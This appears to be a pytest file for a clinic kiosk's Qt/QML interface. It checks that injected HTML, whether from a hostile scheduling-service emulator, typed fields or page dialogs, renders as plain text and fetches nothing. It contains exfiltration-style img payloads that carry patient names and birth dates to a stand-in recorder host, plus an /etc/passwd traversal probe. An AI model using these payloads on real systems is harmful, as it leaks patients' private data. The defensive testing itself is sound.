"""Untrusted text stays text. Markup with a remote image (pointing at a recorder on another
loopback address) in every string DexCare sends, in the page's alert/confirm/prompt, and typed
into every field: the recorder sees nothing, and every text showing it is plain.

Before, QML's ``Text.AutoText`` parsed such a string as HTML and Qt Quick's image loader fetched
the image from the kiosk process itself, past every layer of the web fence: a page could send
what a patient had typed anywhere it liked."""

from __future__ import annotations

import json
from collections.abc import Mapping
from typing import Any

import pytest
import segno
from PySide6.QtCore import QUrl
from PySide6.QtQml import QQmlComponent

from kiosk.app import KioskApp
from kiosk.demo.emulator import Answer, DexCareEmulator
from kiosk.demo.scenarios import Scenario
from kiosk.flow import provider as pv
from kiosk.paths import UI
from kiosk.qt.driver import Driver
from kiosk.qt.messages import scheme_and_host
from kiosk.qt.qmlnet import FACTORY, allowed
from kiosk.tour import DEMO_CLINIC, PATIENT, fill, to_provider_times, to_review
from tests.qt.conftest import demo_settings, to_page
from tests.qt.recorder import RECORDER_HOST, Recorder

# Members of DexCare's answers that carry words a screen shows (identifiers, times, zones and
# codes are left alone: a hostile one of those breaks the flow, which is tested elsewhere).
SHOWN = {"displayName", "name", "center", "credential", "credentials", "firstName", "lastName",
         "description", "line1", "line2", "city", "message", "error", "clinicType"}  # fmt: skip
# Names the kiosk sends back to DexCare to ask for times: a visit type's name is its key there.
KEYS_BY_NAME = {"allowedVisitTypes"}


def markup(rec: str, what: str) -> str:
    return f'<img src="http://{rec}/{what}">'


class HostileDexCare(DexCareEmulator):
    """DexCare (or something between it and the kiosk) answering with markup in every word."""

    def __init__(self, rec: str) -> None:
        super().__init__(latency=0.3)
        self.rec = rec

    def handle(
        self,
        method: str,
        path: str,
        query: Mapping[str, str],
        headers: Mapping[str, str],
        body: bytes,
    ) -> Answer:
        answer = super().handle(method, path, query, headers, body)
        if not path.startswith(("/_emulator", "/retail")) and answer.body[:1] in (b"{", b"["):
            answer.body = json.dumps(self._spoil(json.loads(answer.body), "")).encode()
        return answer

    def _spoil(self, value: Any, key: str) -> Any:
        if isinstance(value, dict):
            return {k: v if k in KEYS_BY_NAME else self._spoil(v, k) for k, v in value.items()}
        if isinstance(value, list):
            return [self._spoil(v, key) for v in value]
        if isinstance(value, str) and key in SHOWN and value:
            return f"{value} {markup(self.rec, key)}"
        return value


def nothing_fetched(d: Driver, recorder: Recorder, where: str) -> None:
    d.pump(0.8)  # an image is fetched asynchronously
    assert recorder.seen == [], f"{where}: the kiosk fetched {recorder.seen}"
    formats = d.formats_showing("<img")
    assert formats, f"{where}: no text shows the markup, so this checked nothing"
    assert set(formats) <= {-1, 0}, f"{where}: drawn as markup: {formats}"  # 0: Text.PlainText


def test_markup_from_dexcare_is_shown_as_text_and_fetches_nothing(
    make_kiosk: Any, recorder: Recorder
) -> None:
    rec = f"{RECORDER_HOST}:{recorder.port}"
    settings = demo_settings(kiosk={"insurance_payers": {"aetna": "Aetna"}})
    k, d = make_kiosk(settings, emulator=HostileDexCare(rec))
    d.tap("bookButton")
    d.tap("walkInButton")
    d.wait_until(lambda: d.exists("clinicList") and not k.busy, 15, "the clinic list")
    nothing_fetched(d, recorder, "the clinic list")
    d.tap(f"clinic_{DEMO_CLINIC}")
    d.wait_until(lambda: d.exists("time_0_0") and not k.busy, 15, "the times")
    nothing_fetched(d, recorder, "the clinic's times")  # under the clinic's name
    d.tap("startOverButton")
    d.wait_until(lambda: d.exists("bookButton"), 10, "Welcome")
    d.tap("bookButton")
    d.tap("appointmentButton")
    d.wait_until(lambda: d.exists("provider_1520384714") and not k.busy, 15, "the providers")
    nothing_fetched(d, recorder, "the provider list")
    d.tap("provider_1520384714")
    d.wait_until(lambda: d.exists("visitType_3001"), 10, "the visit types")
    nothing_fetched(d, recorder, "the visit types")
    d.tap("visitType_3001")
    d.wait_until(lambda: d.exists("time_0_0") and not k.busy, 15, "the provider's times")
    nothing_fetched(d, recorder, "the provider's times")
    to_review(k, d, patient=PATIENT, reason=f"Sore throat {markup(rec, 'typed-reason')}",
              payment={"pay.method": "insurance", "ins.payer": "aetna", "ins.memberId": "XJ55501234",
                       "ins.holder": "self"})  # fmt: skip
    nothing_fetched(d, recorder, "the review")
    assert markup(rec, "typed-reason") in d.all_text()  # shown as typed, characters and all
    k.emulator.set_scenario(Scenario.NOT_ON_PANEL)  # a refusal, its message spoiled too
    d.tap("submitButton")
    d.wait_until(lambda: k.session.screen == "outcome" and not k.busy, 15, "the refusal")
    d.pump(0.8)
    assert recorder.seen == []


def test_markup_typed_into_every_field_is_shown_as_text_and_fetches_nothing(
    make_kiosk: Any, recorder: Recorder
) -> None:
    rec = f"{RECORDER_HOST}:{recorder.port}"
    k, d = make_kiosk(demo_settings())
    to_provider_times(k, d)
    d.tap("time_0_0")
    d.tap("forSomeoneElseButton")  # the patient's and the guardian's fields
    d.wait_until(lambda: d.exists("field_patient.firstName"), 5, "the patient's details")
    answers = PATIENT | {"actor.firstName": "Ana", "actor.lastName": "Lopez",
                         "actor.dob": "03151990", "actor.gender": "female",
                         "actor.phone": "2065550100", "actor.relationship": "Mother",
                         "reason": "Sore throat"}  # fmt: skip
    typed = 0
    while k.current_screen.value != "payment":
        here = k.current_screen
        fields = [f["key"] for f in k.form.fields if d.exists(f"field_{f['key']}")]
        for key in fields:
            d.clear_field(f"field_{key}")
        fill(k, d, {key: markup(rec, key.replace(".", "-")) for key in fields})
        typed += len(fields)
        nothing_fetched(d, recorder, f"typed on {here.value}")
        d.tap("nextButton")  # refused: each problem said under its field (with what was typed)
        d.pump(0.8)
        assert recorder.seen == [], recorder.seen
        if k.current_screen is here:
            assert set(d.formats_showing("<img")) <= {-1, 0}
            for key in fields:
                d.clear_field(f"field_{key}")
            fill(k, d, {key: v for key, v in answers.items() if pv.step_of(key) is here})
            d.tap("nextButton")
            d.wait_until(lambda: k.current_screen is not here, 5, "the next step")  # noqa: B023
    assert typed >= 10, typed


@pytest.mark.parametrize(
    "script",
    [
        "alert('Hello ' + M)",
        "confirm('Keep ' + M + '?')",
        "prompt('Your name ' + M, M)",  # the message and the default answer
    ],
)
def test_markup_in_a_page_dialog_is_shown_as_text_and_fetches_nothing(
    kiosk: tuple[KioskApp, Driver], recorder: Recorder, script: str
) -> None:
    k, d = kiosk
    rec = f"{RECORDER_HOST}:{recorder.port}"
    to_page(k, d)
    # what the patient typed into the page, smuggled out through the kiosk's own UI
    d.js("(() => { document.getElementById('first').value = 'Ana'; return true })()")
    page_markup = (
        f"'<img src=\"http://{rec}/x?first=' + document.getElementById('first').value + '\">'"
    )
    d.js(f"(() => {{ const M = {page_markup}; setTimeout(() => {script}, 0); return true }})()")
    d.wait_until(lambda: d.exists("jsDialogText"), 5, "the page's dialog")
    nothing_fetched(d, recorder, "the page's dialog")
    assert d.text("jsDialogText").endswith(
        f'<img src="http://{rec}/x?first=Ana">' + ("?" if "confirm" in script else "")
    )
    d.tap("jsDialogOk")
    d.wait_until(lambda: not d.exists("jsDialogText"), 5, "the dialog to close")
    d.pump(0.5)
    assert recorder.seen == []


def test_qt_messages_keep_only_the_scheme_and_host_of_a_url() -> None:
    said = "QML QQuickImage*: Error transferring http://127.0.0.2:8000/x?first=Ana - refused"
    assert (
        scheme_and_host(said) == "QML QQuickImage*: Error transferring http://127.0.0.2 - refused"
    )
    own = "file:///opt/clinic-kiosk/ui/Main.qml:12:5: QML Text: Binding loop"
    assert scheme_and_host(own) == own  # the kiosk's own files are named whole


@pytest.mark.qt_log_ignore('Protocol "refused" is unknown')
def test_the_kiosks_own_ui_fetches_nothing_even_if_rich_text_slipped_in(
    kiosk: tuple[KioskApp, Driver], recorder: Recorder, caplog: pytest.LogCaptureFixture
) -> None:
    """The second layer: the QML engine's network managers refuse all but the kiosk's own files
    and inline images, so even a rich text (or a remote image) the first layer missed fetches
    nothing, and the refusal is logged by scheme and host only."""
    k, d = kiosk
    rec = f"{RECORDER_HOST}:{recorder.port}"
    qr = segno.make("BEGIN:VCALENDAR", error="m").png_data_uri(scale=6, border=2)
    before = FACTORY.refused
    component = QQmlComponent(k.engine)
    component.setData(
        f"""import QtQuick
Item {{
    property int qrStatus: qr.status
    Text {{ textFormat: Text.RichText; text: '<img src="http://{rec}/rich?first=Ana">' }}
    Image {{ source: "http://{rec}/image?dob=1990-03-15" }}
    Image {{ source: "https://{rec}/secure?last=Lopez" }}
    Image {{ id: qr; source: "{qr}" }}
}}""".encode(),
        QUrl.fromLocalFile(str(UI / "Slipped.qml")),
    )
    item = component.create()
    assert item is not None, component.errorString()
    item.setParentItem(k.window.contentItem())
    d.pump(1.0)  # an image is fetched asynchronously
    assert recorder.seen == [], f"the kiosk's own UI fetched {recorder.seen}"
    d.wait_until(lambda: FACTORY.refused - before == 3, 5, "three refusals")
    # Image.Ready: the calendar QR code, an inline image, still shows
    d.wait_until(lambda: item.property("qrStatus") == 1, 5, "the QR code")
    said = [r.getMessage() for r in caplog.records if r.name == "kiosk.qt.qmlnet"]
    assert sorted(said) == sorted(
        [f"refused a request from the kiosk's own UI to http://{RECORDER_HOST}"] * 2
        + [f"refused a request from the kiosk's own UI to https://{RECORDER_HOST}"]
    )
    item.deleteLater()


def test_the_ui_engine_allows_only_the_kiosks_own_files_and_inline_images() -> None:
    assert allowed(QUrl.fromLocalFile(str(UI / "Main.qml")))
    assert allowed(QUrl("qrc:/qt-project.org/imports/QtQuick/Controls/Basic/Button.qml"))
    assert allowed(QUrl("data:image/png;base64,iVBORw0KGgo="))
    assert not allowed(QUrl.fromLocalFile(str(UI / ".." / ".." / "etc" / "passwd")))
    assert not allowed(QUrl.fromLocalFile("/etc/passwd"))
    for url in ("http://127.0.0.2/x", "https://example.org/", "ftp://h/", "//h/x", "gopher://h"):
        assert not allowed(QUrl(url)), url
